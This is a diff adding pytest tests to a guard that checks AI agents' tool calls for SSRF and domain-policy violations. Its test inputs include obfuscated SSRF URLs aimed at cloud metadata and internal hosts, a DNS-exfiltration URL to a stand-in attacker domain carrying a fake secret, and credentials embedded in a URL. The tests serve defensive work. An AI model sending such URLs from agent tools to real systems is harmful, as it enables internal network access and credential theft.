@@ -318,3 +318,103 @@ def test_one_megabyte_of_adversarial_arguments_is_linear(case: str) -> None:
         check.run(subject)
         best = min(best, (time.process_time() - t0) * 1000)
     assert best < 250, f"{case}: {best:.0f} ms"
+
+
+# -- URLs as tools and browsers take them --------------------------------------------------------
+@pytest.mark.parametrize("url", [
+    '"http://169.254.169.254/latest/meta-data/"',  # LangChain's requests tools strip the quotes
+    "'http://127.0.0.1:8080/admin'",
+    "`http://10.0.0.5/`",
+    "ht\ttp://127.0.0.1/",  # a browser drops tabs and newlines anywhere
+    "h\nttp://169.254.169.254/",
+    "http://0x/",  # WHATWG reads a bare "0x" as 0: 0.0.0.0
+    "http://0x.0x.0x.0x/",
+])
+def test_ssrf_holds_for_urls_written_as_tools_and_browsers_read_them(shield: Shield, url: str) -> None:
+    assert _action(shield, "fetch", {"url": url}) is Action.BLOCK
+
+
+@pytest.mark.parametrize("url", ['"https://evil.example/"', "'https://evil.example/x'", "ht\ttps://evil.example/"])
+def test_allow_list_names_the_quoted_host(url: str) -> None:
+    shield = _shield(fetch={"allowed_domains": ["ok.example"]})
+    d = shield.check_tool_call("fetch", {"url": url})
+    assert d.action is Action.BLOCK and "evil.example" in d.reason, d.reason
+    assert _action(shield, "fetch", {"url": '"https://ok.example/page"'}) is Action.ALLOW
+
+
+@pytest.mark.parametrize("args", [
+    {"text": '{"url": "http://169.254.169.254/latest/meta-data/iam", "data": {"a": 1}}'},  # requests_post
+    {"text": '```json\n{"url": "http://127.0.0.1:6379/", "data": {}}\n```'},
+    {"tool_input": '[{"url": "http://10.0.0.5/"}]'},
+])
+def test_a_url_inside_a_json_input_is_read(shield: Shield, args: dict[str, str]) -> None:
+    """LangChain's requests_post/patch/put take one argument, a JSON document with the URL to fetch."""
+    d = shield.check_tool_call("requests_post", args)
+    assert d.action is Action.BLOCK and "SSRF" in d.reason, d.reason
+
+
+def test_a_json_document_next_to_other_arguments_is_data() -> None:
+    """A file's content or a request body is what the tool writes or sends, not where it goes."""
+    args = {"path": "config.json", "content": '{"homepage": "http://localhost:3000"}'}
+    assert _action(Shield.default(), "write_file", args) is Action.ALLOW
+    shield = _shield(requests_post={"allowed_domains": ["ok.example"]})
+    assert _action(shield, "requests_post", {"text": '{"url": "https://ok.example/x", "data": {}}'}) is Action.ALLOW
+    assert _action(shield, "requests_post", {"text": '{"url": "https://evil.example/x", "data": {}}'}) is Action.BLOCK
+
+
+@pytest.mark.parametrize("args", [
+    {"host": "169.254.169.254", "path": "/latest/meta-data/"},
+    {"hostname": "10.0.0.5", "port": 6379},
+    {"url": "localhost"},
+    {"host": "localhost", "port": 8080},
+    {"endpoint": "0x7f000001"},
+])
+def test_a_host_given_apart_from_its_url_is_read(shield: Shield, args: dict[str, object]) -> None:
+    assert _action(shield, "http_request", args) is Action.BLOCK
+
+
+@pytest.mark.parametrize("args", [{"host": "api.github.com"}, {"url": "none"}, {"location": "Berlin"},
+                                  {"url": "2000"}, {"url": "02134"}, {"host": "example"}])
+def test_public_or_non_hosts_in_host_arguments_pass(args: dict[str, str]) -> None:
+    assert _action(Shield.default(), "http_request", args) is Action.ALLOW
+
+
+def test_policy_domains_in_unicode_match_the_hosts_clients_reach() -> None:
+    """A URL's host is read as punycode; a deny list written in Unicode never matched it."""
+    shield = _shield(fetch={"denied_domains": ["bücher.example"]}, get={"allowed_domains": ["bücher.example"]})
+    for url in ("https://bücher.example/", "https://xn--bcher-kva.example/", "https://BÜCHER.example/x"):
+        assert _action(shield, "fetch", {"url": url}) is Action.BLOCK, url
+        assert _action(shield, "get", {"url": url}) is Action.ALLOW, url
+    assert _action(shield, "fetch", {"url": "https://buecher.example/"}) is Action.ALLOW
+
+
+# -- what a refusal says ---------------------------------------------------------------------------
+def test_a_refusal_names_the_domain_not_the_data_in_its_labels() -> None:
+    """``<secret>.evil.example`` exfiltrates by DNS; the reason goes to the audit trail in clear."""
+    shield = _shield(fetch={"allowed_domains": ["ok.example"]})
+    secret = "wjalrxutnfemi-k7mdeng-bpxrficyexamplekey"
+    d = shield.check_tool_call("fetch", {"url": f"https://{secret}.evil.example/?token=abc"})
+    assert d.action is Action.BLOCK
+    assert "evil.example" in d.reason
+    assert all(secret not in f.message.lower() for f in d.findings), d.reason
+    d = shield.check_tool_call("fetch", {"url": "https://user:hunter2@evil.co.uk/"})
+    assert "evil.co.uk" in d.reason and "hunter2" not in d.reason
+
+
+def test_a_refusal_quotes_a_bounded_part_of_a_long_name(shield: Shield) -> None:
+    d = shield.check_tool_call("fetch", {"k" * 100_000: "http://127.0.0.1/"})
+    assert d.action is Action.BLOCK and len(d.reason) < 300, len(d.reason)
+    d = _shield(fetch={"allowed_domains": ["ok.example"]}).check_tool_call(
+        "fetch", {"url": "https://" + "a" * 60 + "." * 1 + "b" * 60 + ".evil.example/"})
+    assert len(d.reason) < 300 and "evil.example" in d.reason
+
+
+def test_a_made_up_tool_name_is_quoted_bounded() -> None:
+    """The model names the tool: a megabyte-long name used to be copied whole into every reason."""
+    shield = Shield.from_policy({"unknown_tools": "block", "tools": {"t": {"args_schema": {"type": "object"}}}})
+    d = shield.check_tool_call("x" * 100_000, {"a": 1})
+    assert d.action is Action.BLOCK and len(d.reason) < 300, len(d.reason)
+    schema = Shield.from_policy({"tools": {"t": {"args_schema": {"type": "object", "additionalProperties":
+                                                                 {"type": "integer"}}}}})
+    d = schema.check_tool_call("t", {"k" * 100_000: "not a number"})
+    assert d.action is Action.BLOCK and len(d.reason) < 400, len(d.reason)
